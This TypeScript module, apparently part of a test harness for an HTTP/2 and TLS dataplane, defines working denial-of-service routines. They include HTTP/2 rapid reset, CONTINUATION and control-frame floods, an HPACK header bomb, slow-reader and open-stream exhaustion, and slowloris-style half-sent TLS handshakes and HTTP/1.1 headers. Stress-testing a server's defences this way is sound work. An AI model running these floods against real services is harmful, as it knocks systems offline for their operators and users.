import type { Socket } from 'node:net';
import { clientHello, serverNames } from '../../src/dataplane/tls/sample-client-hello.ts';
import { FRAME, frame, literals } from '../../test/dataplane/http2-peers.ts';

/** What a client does that would do harm, with a connection that has just been made. */
export interface Offence {
  readonly name: string;
  /** At a time; each that is cut off comes back. */
  readonly connections: number;
  run(socket: Socket, host: string): void;
}

const END_STREAM = 1;
const END_HEADERS = 4;
const ACK = 1;
const PRIORITY = 2;
const WINDOW_UPDATE = 8;
const CANCEL = Buffer.of(0, 0, 0, 8);
const FRAMES_IN_A_WRITE = 100;

type Field = readonly [name: string, value: string];

const head = (host: string, path = '/api/body?bytes=64', method = 'GET'): Buffer =>
  literals([
    [':method', method],
    [':path', path],
    [':scheme', 'http'],
    [':authority', host],
  ] satisfies Field[]);

/** RFC 9113 §3.4. */
const begin = (socket: Socket, settings = Buffer.alloc(0)): void => {
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(FRAME.settings, 0, 0, settings));
  socket.write(frame(FRAME.settings, ACK, 0, Buffer.alloc(0)));
};

/** Ids of streams in order. */
const streamIds = (): (() => number) => {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
};

const many = (make: () => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES_IN_A_WRITE }, make));

/** As much as the other side takes, and no end. */
const flood = (socket: Socket, next: () => Buffer): void => {
  const sendOn = (): void => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on('drain', sendOn);
  sendOn();
};

/** The same frames again and again, on a connection or on one open stream. */
const floodOf = (name: string, what: Buffer, onStream = false): Offence => ({
  name,
  connections: 4,
  run: (socket, host) => {
    begin(socket);
    if (onStream)
      socket.write(frame(FRAME.headers, END_HEADERS, 1, head(host, '/api/body', 'POST')));
    const piece = many(() => what);
    flood(socket, () => piece);
  },
});

export const OFFENCES: readonly Offence[] = [
  {
    name: 'rapid reset',
    connections: 4,
    run: (socket, host) => {
      begin(socket);
      const next = streamIds();
      const fields = head(host);
      flood(socket, () =>
        many(() => {
          const id = next();
          return Buffer.concat([
            frame(FRAME.headers, END_HEADERS | END_STREAM, id, fields),
            frame(FRAME.reset, 0, id, CANCEL),
          ]);
        }),
      );
    },
  },
  {
    name: 'CONTINUATION flood',
    connections: 4,
    run: (socket, host) => {
      begin(socket);
      socket.write(frame(FRAME.headers, 0, 1, head(host)));
      const more = frame(FRAME.continuation, 0, 1, literals([['x-more', 'x'.repeat(1_000)]]));
      flood(socket, () => more);
    },
  },
  {
    name: 'CONTINUATION flood, empty frames',
    connections: 4,
    run: (socket, host) => {
      begin(socket);
      socket.write(frame(FRAME.headers, 0, 1, head(host)));
      const piece = many(() => frame(FRAME.continuation, 0, 1, Buffer.alloc(0)));
      flood(socket, () => piece);
    },
  },
  floodOf('SETTINGS flood', frame(FRAME.settings, 0, 0, Buffer.of(0, 3, 0, 0, 0, 100))),
  floodOf('PING flood', frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  floodOf('PRIORITY flood', frame(PRIORITY, 0, 3, Buffer.of(0, 0, 0, 0, 16))),
  floodOf('WINDOW_UPDATE flood', frame(WINDOW_UPDATE, 0, 1, Buffer.of(0, 0, 0, 1)), true),
  floodOf('flood of empty DATA', frame(FRAME.data, 0, 1, Buffer.alloc(0)), true),
  {
    name: 'header bomb (HPACK)',
    connections: 4,
    run: (socket, host) => {
      begin(socket);
      const next = streamIds();
      // A field of 4,000 bytes goes into the table, and is then named 4,000 times with a byte each.
      const value = Buffer.from('x'.repeat(4_000));
      const field = Buffer.concat([Buffer.of(0x40, 1), Buffer.from('a'), lengthOf(value), value]);
      const bomb = Buffer.concat([head(host), field, Buffer.alloc(4_000, 0x80 | 62)]);
      flood(socket, () => frame(FRAME.headers, END_HEADERS | END_STREAM, next(), bomb));
    },
  },
  {
    name: 'slow readers',
    connections: 8,
    run: (socket, host) => {
      // All may come at once, and nothing is read.
      begin(socket, Buffer.of(0, 4, 0x7f, 0xff, 0xff, 0xff));
      socket.write(frame(WINDOW_UPDATE, 0, 0, Buffer.of(0x7f, 0, 0, 0)));
      socket.pause();
      const next = streamIds();
      const fields = head(host, '/api/body?bytes=1000000');
      socket.write(many(() => frame(FRAME.headers, END_HEADERS | END_STREAM, next(), fields)));
    },
  },
  {
    name: 'streams left open',
    connections: 20,
    run: (socket, host) => {
      begin(socket);
      const next = streamIds();
      const fields = head(host, '/api/body', 'POST');
      socket.write(many(() => frame(FRAME.headers, END_HEADERS, next(), fields)));
    },
  },
  {
    name: 'streams beyond the limit',
    connections: 4,
    run: (socket, host) => {
      begin(socket);
      const next = streamIds();
      const fields = head(host, '/api/body', 'POST');
      flood(socket, () => many(() => frame(FRAME.headers, END_HEADERS, next(), fields)));
    },
  },
  {
    name: 'handshakes that hang',
    connections: 500,
    run: (socket, host) => {
      const hello = clientHello(serverNames(host));
      socket.write(hello.subarray(0, hello.length >> 1));
    },
  },
  {
    name: 'heads that hang (HTTP/1.1)',
    connections: 500,
    run: (socket, host) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nx-`);
    },
  },
];

/** Of a string of 127 bytes or more (RFC 7541 §5.1). */
function lengthOf(text: Buffer): Buffer {
  const bytes = [127];
  let rest = text.length - 127;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return Buffer.of(...bytes, rest);
}
